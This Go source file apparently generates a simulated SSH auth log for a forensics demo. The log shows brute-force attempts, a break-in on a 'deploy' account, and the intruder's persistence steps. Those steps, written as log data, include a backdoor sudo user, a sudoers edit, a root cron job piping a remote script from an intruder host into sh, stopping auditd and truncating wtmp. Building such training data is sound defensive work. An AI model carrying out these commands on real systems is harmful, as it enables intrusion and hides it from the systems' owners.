package demo

import (
	"fmt"
	"time"
)

// authLog is /var/log/auth.log of web1.
func authLog(n night) []byte {
	a := &authJournal{newJournal(n, 1)}
	a.ordinary()
	a.background()
	a.distributed()
	a.breakIn()
	a.stay()
	return a.lines()
}

type authJournal struct{ *journal }

func (a *authJournal) say(t time.Time, program, format string, args ...any) {
	a.add(t, "%s web1 %s: %s", t.Format("2006-01-02T15:04:05.000000-07:00"), program, fmt.Sprintf(format, args...))
}

// program returns a program's name with a process number.
func (a *authJournal) program(name string) string {
	return fmt.Sprintf("%s[%d]", name, 1000+a.IntN(60000))
}

// ordinary is what the machine and its administrators do.
func (a *authJournal) ordinary() {
	for t := a.dusk().Add(17 * time.Minute); t.Before(a.dawn()); t = t.Add(time.Hour) {
		a.cron(a.some(t), "root", "   cd / && run-parts --report /etc/cron.hourly")
	}
	for t := a.dusk().Add(time.Minute); t.Before(a.dawn()); t = t.Add(5 * time.Minute) {
		a.cron(a.some(t), "www-data", "[ -x /srv/shop/bin/queue ] && /usr/bin/php /srv/shop/bin/queue run")
	}
	for _, s := range []struct{ clock, user, print string }{
		{"16:12:40", "anna", "SHA256:bGFtcCBmb3IgdGhlIGV4YW1wbGUgb2YgYW5uYSdzIGtleQ"},
		{"17:05:11", "ben", "SHA256:dGhpcyBpcyBub3QgYSByZWFsIGtleSBidXQgb25lIG9mIGJlbg"},
		{"18:40:55", "anna", "SHA256:bGFtcCBmb3IgdGhlIGV4YW1wbGUgb2YgYW5uYSdzIGtleQ"},
		{"21:55:02", "anna", "SHA256:bGFtcCBmb3IgdGhlIGV4YW1wbGUgb2YgYW5uYSdzIGtleQ"},
	} {
		t := a.some(a.at(s.clock))
		p := a.program("sshd")
		a.say(t, p, "Accepted publickey for %s from %s port %d ssh2: ED25519 %s", s.user, office, 40000+a.IntN(20000), s.print)
		a.say(t.Add(9*time.Millisecond), p, "pam_unix(sshd:session): session opened for user %s(uid=1000) by %[1]s(uid=0)", s.user)
		a.say(t.Add(14*time.Millisecond), "systemd-logind[702]", "New session %d of user %s.", 300+a.IntN(99), s.user)
		for i, cmd := range []string{"/usr/bin/apt-get update", "/usr/bin/systemctl status nginx", "/usr/bin/tail -n 200 /var/log/nginx/error.log"} {
			a.sudo(t.Add(time.Duration(40+i*95)*time.Second), s.user, "/home/"+s.user, cmd)
		}
		end := t.Add(time.Duration(8+a.IntN(30)) * time.Minute)
		a.say(end, p, "pam_unix(sshd:session): session closed for user %s", s.user)
	}
}

func (a *authJournal) cron(t time.Time, user, command string) {
	p := a.program("CRON")
	a.say(t, p, "pam_unix(cron:session): session opened for user %s(uid=%d) by (uid=0)", user, map[string]int{"root": 0, "www-data": 33}[user])
	a.say(t.Add(2*time.Millisecond), p, "(%s) CMD (%s)", user, command)
	a.say(t.Add(600*time.Millisecond), p, "pam_unix(cron:session): session closed for user %s", user)
}

func (a *authJournal) sudo(t time.Time, user, pwd, command string) {
	a.say(t, "sudo", "%8s : TTY=pts/0 ; PWD=%s ; USER=root ; COMMAND=%s", user, pwd, command)
	a.say(t.Add(time.Millisecond), "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=1000)", user)
	a.say(t.Add(300*time.Millisecond), "sudo", "pam_unix(sudo:session): session closed for user root")
}

// attempt is one failed login.
func (a *authJournal) attempt(t time.Time, user, addr string, known bool) {
	p, port := a.program("sshd"), 30000+a.IntN(30000)
	invalid := ""
	if !known {
		invalid = "invalid user "
		a.say(t, p, "Invalid user %s from %s port %d", user, addr, port)
	}
	a.say(t.Add(700*time.Millisecond), p, "Failed password for %s%s from %s port %d ssh2", invalid, user, addr, port)
	a.say(t.Add(1200*time.Millisecond), p, "Connection closed by %suser %s %s port %d [preauth]", map[bool]string{true: "authenticating ", false: "invalid "}[known], user, addr, port)
}

// background is what every machine on the internet hears all night.
func (a *authJournal) background() {
	names := []string{"admin", "test", "oracle", "ubuntu", "postgres", "git", "user", "ftp", "minecraft", "pi", "hadoop", "guest"}
	for _, s := range []struct {
		clock, addr string
		count       int
	}{{"17:31:00", "203.0.113.12", 24}, {"20:02:00", "203.0.113.29", 40}, {"26:51:00", "203.0.113.87", 18}} {
		t := a.at(s.clock)
		for i := range s.count {
			t = t.Add(time.Duration(3+a.IntN(5)) * time.Second)
			if i%4 == 0 {
				a.attempt(a.some(t), "root", s.addr, true)
			} else {
				a.attempt(a.some(t), names[i%len(names)], s.addr, false)
			}
		}
	}
	for range 30 { // single knocks, from here and there
		a.attempt(a.whenever(a.dusk(), a.dawn()), a.pick("root", "admin", "test", "support"), fmt.Sprintf("203.0.113.%d", 100+a.IntN(100)), false)
	}
}

// distributed is a botnet that guesses at deploy, a user who exists, slowly from each address.
func (a *authJournal) distributed() {
	for t := a.at("24:20:00"); t.Before(a.at("26:05:00")); t = t.Add(time.Duration(40+a.IntN(50)) * time.Second) {
		a.attempt(a.some(t), "deploy", fmt.Sprintf("203.0.113.%d", 200+a.IntN(18)), true)
	}
}

// breakIn is the machine that guesses right.
func (a *authJournal) breakIn() {
	t := a.at("26:06:10")
	for range 64 {
		t = t.Add(time.Duration(4+a.IntN(4)) * time.Second)
		a.attempt(a.some(t), "deploy", guesser, true)
	}
	p := a.program("sshd")
	a.say(a.at("26:14:07"), p, "Accepted password for deploy from %s port 51234 ssh2", guesser)
	a.say(a.at("26:14:07").Add(8*time.Millisecond), p, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by deploy(uid=0)")
	a.say(a.at("26:14:07").Add(11*time.Millisecond), "systemd-logind[702]", "New session 411 of user deploy.")
}

// stay is what the intruder does to come back.
func (a *authJournal) stay() {
	a.say(a.at("26:15:30"), "sudo", "pam_unix(sudo:auth): authentication failure; logname=deploy uid=1001 euid=0 tty=/dev/pts/1 ruser=deploy rhost=  user=deploy")
	a.sudo(a.at("26:15:52"), "deploy", "/home/deploy", "/usr/bin/id")
	a.sudo(a.at("26:16:20"), "deploy", "/home/deploy", "/bin/bash")
	p := a.program("useradd")
	a.say(a.at("26:17:04"), p, "new user: name=support2, UID=1007, GID=1007, home=/home/support2, shell=/bin/bash, from=/dev/pts/1")
	a.say(a.at("26:17:11"), a.program("passwd"), "pam_unix(passwd:chauthtok): password changed for support2")
	a.say(a.at("26:17:25"), a.program("usermod"), "add 'support2' to group 'sudo'")
	a.say(a.at("26:17:25").Add(time.Millisecond), a.program("usermod"), "add 'support2' to shadow group 'sudo'")
	a.sudo(a.at("26:19:40"), "deploy", "/home/deploy", "/usr/bin/tee -a /etc/sudoers.d/90-support")
	a.say(a.at("26:21:02"), a.program("crontab"), "(root) REPLACE (root)")
	for t := a.at("26:25:01"); t.Before(a.at("27:30:00")); t = t.Add(10 * time.Minute) {
		a.cron(a.some(t), "root", "curl -fsSL http://"+intruder+"/u.sh | sh")
	}
	a.sudo(a.at("27:10:02"), "deploy", "/home/deploy", "/usr/bin/systemctl stop auditd")
	a.sudo(a.at("27:10:31"), "deploy", "/home/deploy", "/usr/bin/truncate -s 0 /var/log/wtmp")
	a.say(a.at("27:12:00"), "sshd[51002]", "pam_unix(sshd:session): session closed for user deploy")
}
